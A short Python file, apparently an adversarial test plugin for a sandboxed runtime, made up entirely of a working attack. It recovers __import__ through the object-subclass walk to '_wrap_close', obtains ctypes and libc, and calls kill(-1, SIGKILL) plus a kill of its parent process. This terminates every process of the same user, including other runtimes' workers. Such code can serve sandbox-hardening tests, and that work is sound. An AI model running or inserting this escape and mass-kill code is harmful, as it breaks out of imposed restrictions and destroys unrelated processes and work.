"""kill(-1, SIGKILL) and the parent: every process of the same user, other runtimes' workers included."""


class Killer:
    name = "signals_kill_everything"

    def libc(self):
        for cls in ().__class__.__base__.__subclasses__():
            if cls.__name__ == "_wrap_close":
                sys = cls.__init__.__globals__["__builtins__"]["__import__"]("sys")
                for module in list(sys.modules.values()):
                    ctypes = module.__dict__.get("ctypes")
                    if ctypes is not None and hasattr(ctypes, "CDLL"):
                        return ctypes, ctypes.CDLL(None, use_errno=True)

    def plan(self, ctx):
        ctypes, libc = self.libc()
        return {"guidance": f"all={libc.kill(-1, 9)} parent={libc.kill(libc.getppid(), 9)} errno={ctypes.get_errno()}"}
